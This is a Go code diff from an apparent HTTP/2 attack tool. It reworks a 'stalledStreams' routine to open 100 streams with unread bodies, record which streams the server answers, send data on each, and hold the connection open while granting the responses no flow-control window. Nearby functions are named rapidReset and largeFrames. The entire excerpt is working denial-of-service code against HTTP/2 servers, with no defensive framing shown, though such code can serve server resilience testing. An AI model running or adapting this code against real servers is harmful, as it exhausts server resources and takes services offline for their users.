@@ -139,7 +139,7 @@ func rapidReset(ctx context.Context, t Target, a *attacker) error {
 	return nil
 }
 
-// stalledStreams asks on as many streams as there may be, each with a body that
+// stalledStreams asks on more streams than there may be, each with a body that
 // nobody reads, and grants the answers no byte.
 func stalledStreams(ctx context.Context, t Target, a *attacker) error {
 	c, err := t.dialHTTP2(ctx, 0)
@@ -147,40 +147,43 @@ func stalledStreams(ctx context.Context, t Target, a *attacker) error {
 		return errRefused
 	}
 	defer c.Close()
-	const streams, body = 16, 100 << 10
+	const streams, body = 100, 100 << 10
 	for range streams {
-		c.frame(frameData, 0, c.request(t.Addr, wrongToken, body), make([]byte, 900))
+		c.request(t.Addr, wrongToken, body)
 	}
 	c.flush()
 	defer context.AfterFunc(ctx, func() { c.Close() })()
-	if c.awaitAnswers(streams) != nil {
+	answered, err := c.awaitAnswers(streams)
+	if err != nil {
 		return nil
 	}
-	a.sent(streams)
+	for _, stream := range answered {
+		c.frame(frameData, 0, stream, make([]byte, 900))
+	}
+	c.flush()
+	a.sent(len(answered))
 	a.inPlace()
 	return untilClosed(ctx, c)
 }
 
-// awaitAnswers reads until n streams were answered; one that is reset is an error.
-func (c *http2Conn) awaitAnswers(n int) error {
+// awaitAnswers reads until n streams were answered or reset, and returns the former.
+func (c *http2Conn) awaitAnswers(n int) (answered []uint32, err error) {
 	r := bufio.NewReader(c.Conn)
-	for n > 0 {
-		var head [9]byte // section 4.1
-		if _, err := io.ReadFull(r, head[:]); err != nil {
-			return err
-		}
-		length := int(head[0])<<16 | int(head[1])<<8 | int(head[2])
-		if _, err := r.Discard(length); err != nil {
-			return err
-		}
-		switch head[3] {
-		case frameHeaders:
-			n--
-		case frameReset:
-			return errRefused
+	for ; n > 0; n-- {
+		for kind := byte(0xff); kind != frameHeaders && kind != frameReset; {
+			var head [9]byte // section 4.1
+			if _, err := io.ReadFull(r, head[:]); err != nil {
+				return answered, err
+			}
+			if _, err := r.Discard(int(head[0])<<16 | int(head[1])<<8 | int(head[2])); err != nil {
+				return answered, err
+			}
+			if kind = head[3]; kind == frameHeaders {
+				answered = append(answered, binary.BigEndian.Uint32(head[5:]))
+			}
 		}
 	}
-	return nil
+	return answered, nil
 }
 
 // largeFrames sends a frame as large as Go's server takes unless it is told not
